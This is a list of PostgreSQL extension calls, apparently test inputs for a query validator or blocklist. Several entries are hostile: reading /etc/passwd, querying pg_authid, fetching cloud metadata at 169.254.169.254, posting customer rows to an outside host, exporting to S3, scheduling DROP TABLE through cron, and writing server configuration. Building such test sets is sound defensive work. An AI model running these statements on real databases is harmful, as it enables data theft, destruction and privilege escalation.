SELECT AddGeometryColumn('public', 'places', 'geom', 4326, 'POINT', 2)
-- ;;
SELECT DropGeometryColumn('public', 'places', 'geom')
-- ;;
SELECT UpdateGeometrySRID('public', 'places', 'geom', 3857)
-- ;;
SELECT Populate_Geometry_Columns()
-- ;;
SELECT ST_EstimatedExtent('public', 'places', 'geom')
-- ;;
SELECT find_extent('public', 'places', 'geom')
-- ;;
SELECT _postgis_stats('places', 'geom')
-- ;;
SELECT postgis_extensions_upgrade()
-- ;;
SELECT ST_FromFlatGeobufToTable('public', 'stolen', '\x00')
-- ;;
SELECT lockrow('public', 'places', '1', 'me', now()::timestamp)
-- ;;
SELECT EnableLongTransactions()
-- ;;
SELECT ST_FromGDALRaster('<VRTDataset/>'::bytea)
-- ;;
SELECT ST_AddBand(rast, 1, '/etc/passwd', NULL::int[]) FROM elevation
-- ;;
SELECT ST_MapAlgebra(rast, 1, NULL, '(SELECT 1 FROM pg_authid)') FROM elevation
-- ;;
SELECT (ST_Retile('secrets'::regclass, 'rast', geom, 1, 1, 10, 10)).* FROM places
-- ;;
SELECT ST_ValueCount('secrets', 'rast', 1)
-- ;;
SELECT ST_CreateOverview('elevation'::regclass, 'rast', 2)
-- ;;
SELECT AddRasterConstraints('elevation'::name, 'rast'::name)
-- ;;
SELECT topology.CreateTopology('t', 4326)
-- ;;
SELECT topology.DropTopology('t')
-- ;;
SELECT topology.GetTopoGeomElements('secret_topology', 1, 1)
-- ;;
SELECT topology.ST_GetFaceGeometry('secret_topology', 1)
-- ;;
SELECT topology.TopoGeo_AddPoint('t', ST_Point(1, 2))
-- ;;
SELECT topology.ValidateTopology('secret_topology')
-- ;;
SELECT id FROM places WHERE ST_Area(geom) > 1 AND EXISTS (SELECT postgis_extensions_upgrade())
-- ;;
SELECT crosstab2('SELECT * FROM secrets')
-- ;;
SELECT * FROM connectby('secrets', 'id', 'parent', '1', 0) AS t(id int, parent int, level int)
-- ;;
SELECT * FROM crosstab('SELECT 1, 2, 3', 'SELECT 1') AS t(a int, b int)
-- ;;
SELECT * FROM xpath_table('id', 'doc', 'secrets', '/a', 'true') AS t(id int, a text)
-- ;;
SELECT cron.schedule('* * * * *', 'DROP TABLE orders')
-- ;;
SELECT cron.schedule_in_database('n', '* * * * *', 'DROP TABLE orders', 'postgres')
-- ;;
SELECT cron.unschedule(1)
-- ;;
SELECT cron.alter_job(1, command := 'DROP TABLE orders')
-- ;;
SELECT net.http_get('http://169.254.169.254/latest/meta-data')
-- ;;
SELECT net.http_post('http://x', body := (SELECT to_jsonb(c) FROM customers c LIMIT 1))
-- ;;
SELECT content FROM http(('GET', 'http://x', NULL, NULL, NULL))
-- ;;
SELECT aws_s3.query_export_to_s3('SELECT * FROM customers', 'bucket', 'key', 'eu')
-- ;;
SELECT aws_s3.table_import_from_s3('orders', '', '(FORMAT csv)', 'bucket', 'key', 'eu')
-- ;;
SELECT aws_lambda.invoke('arn:aws:lambda:x', '{}'::json)
-- ;;
SELECT azure_openai.create_embeddings('d', name) FROM customers
-- ;;
SELECT azure_storage.blob_get('account', 'container', 'path')
-- ;;
SELECT pgml.embed('intfloat/e5-small', name) FROM customers
-- ;;
SELECT pgml.transform('translation', inputs => ARRAY[name]) FROM customers
-- ;;
SELECT * FROM pgml.train('p', 'regression', 'secrets', 'y')
-- ;;
SELECT * FROM pgml.load_dataset('iris')
-- ;;
SELECT ai.openai_embed('text-embedding-3-small', name) FROM customers
-- ;;
SELECT ai.describe_image('http://x')
-- ;;
SELECT heap_page_items(get_raw_page('orders', 0))
-- ;;
SELECT * FROM bt_page_items('orders_pkey', 1)
-- ;;
SELECT pg_buffercache_evict(1)
-- ;;
SELECT pg_truncate_visibility_map('orders')
-- ;;
SELECT bt_index_parent_check('orders_pkey', true)
-- ;;
SELECT heap_force_kill('orders'::regclass, ARRAY['(0,1)']::tid[])
-- ;;
SELECT hypopg_create_index('CREATE INDEX ON orders (total)')
-- ;;
SELECT isn_weak(true)
-- ;;
SELECT pg_file_write('postgresql.auto.conf', 'x', true)
-- ;;
SELECT * FROM pg_logdir_ls() AS t(a timestamp, b text)
-- ;;
SELECT pg_prewarm('orders')
-- ;;
SELECT * FROM ag_catalog.cypher('g', 'MATCH (n) DETACH DELETE n') AS (a text)
-- ;;
SELECT results_eq('SELECT * FROM secrets', 'DELETE FROM orders RETURNING *')
-- ;;
SELECT lives_ok('DROP TABLE orders')
-- ;;
SELECT set_user('postgres')
-- ;;
SELECT oracle_execute('server', 'DROP TABLE x')
-- ;;
SELECT run_command_on_workers('DROP TABLE orders')
-- ;;
SELECT r['name'] FROM duckdb.read_csv('/etc/passwd') r
-- ;;
SELECT duckdb.raw_query('COPY orders TO ''/tmp/x''')
-- ;;
SELECT * FROM duckdb.query('SELECT * FROM read_text(''/etc/passwd'')')
-- ;;
SELECT * FROM pg_dirtyread('secrets') AS t(a int)
-- ;;
SELECT graphql.resolve('mutation { deleteFromordersCollection { affectedCount } }')
-- ;;
SELECT utl_file.fopen('/tmp', 'x', 'w')
-- ;;
SELECT * FROM pg_get_wal_records_info('0/0', '0/1')
-- ;;
SELECT partman.run_maintenance()
-- ;;
SELECT partman.create_parent('public.orders', 'at', '1 day')
-- ;;
SELECT create_hypertable('conditions', 'at')
-- ;;
SELECT drop_chunks('conditions', INTERVAL '1 day')
-- ;;
SELECT add_retention_policy('conditions', INTERVAL '1 day')
-- ;;
SELECT add_job('wipe', '1 hour')
-- ;;
SELECT compress_chunk(c) FROM show_chunks('conditions') c
-- ;;
SET LOCAL hnsw.ef_search = 200
-- ;;
SET LOCAL ivfflat.probes = 10
-- ;;
SET hnsw.ef_search = 200
-- ;;
SELECT set_config('pg_trgm.similarity_threshold', '0.1', false)
-- ;;
CREATE INDEX ON items USING hnsw (embedding vector_l2_ops)
-- ;;
CREATE EXTENSION postgis
